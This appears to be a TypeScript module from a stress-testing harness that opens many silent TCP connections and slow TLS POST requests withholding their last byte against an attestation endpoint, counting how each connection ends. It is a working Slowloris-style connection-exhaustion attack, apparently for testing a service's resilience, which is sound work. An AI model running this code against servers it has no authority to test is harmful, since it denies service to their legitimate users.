/** Opens connections that say nothing, or that begin a request and never end it, and counts how they end. */
import { readFileSync } from 'node:fs';
import { createConnection, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { connect, createSecureContext } from 'node:tls';
import { attackerAddress, type Counts, count, type Target } from './attack.ts';

/** Keeps this many connections open; each that is closed is opened anew. `speak` is what a connection does when it is there. */
export async function holdConnections(
  signal: AbortSignal,
  open: (ended: (how: string) => void) => Socket,
  connections: number,
): Promise<Counts> {
  const counts: Counts = {};
  const sockets = new Set<Socket>();
  const start = (): void => {
    const socket = open((how) => {
      sockets.delete(socket);
      count(counts, how);
      if (!signal.aborted) setTimeout(start, 50).unref();
    });
    sockets.add(socket);
  };
  for (let index = 0; index < connections && !signal.aborted; index += 1) {
    start();
    // A connection at a time would be too slow, all at once too many for the queue of the listener.
    if (index % 50 === 49) await pause(20);
  }
  if (!signal.aborted) await new Promise((resolve) => signal.addEventListener('abort', resolve, { once: true }));
  counts['still open at the end'] = sockets.size;
  for (const socket of sockets) socket.destroy();
  return counts;
}

/** A TCP connection without a TLS handshake. */
export function silent({ url }: Target, ended: (how: string) => void): Socket {
  const { hostname, port } = new URL(url);
  const socket = createConnection({ host: hostname, port: Number(port), localAddress: attackerAddress });
  return socket.on('error', () => {}).on('close', () => ended('closed'));
}

/** Opens requests whose bodies are all there but their last byte. */
export function heldBack({ url, caFile }: Target, bytes: number): (ended: (how: string) => void) => Socket {
  const { hostname, port } = new URL(url);
  const head = `POST /attest/SgxEnclave?api-version=2020-10-01 HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: ${bytes}\r\n\r\n`;
  const request = Buffer.from(head + ' '.repeat(bytes - 1));
  const secureContext = createSecureContext({ ca: readFileSync(caFile) });
  return (ended) => {
    let status = 'closed';
    const transport = createConnection({ host: hostname, port: Number(port), localAddress: attackerAddress });
    transport.on('error', () => {});
    const socket = connect({ socket: transport, servername: '', host: hostname, secureContext });
    socket.once('secureConnect', () => socket.write(request));
    socket.on('data', (chunk) => {
      status = /^HTTP\/1\.1 (\d+)/.exec(chunk.toString('latin1'))?.[1] ?? status;
      socket.destroy();
    });
    return socket.on('error', () => {}).on('close', () => ended(status));
  };
}
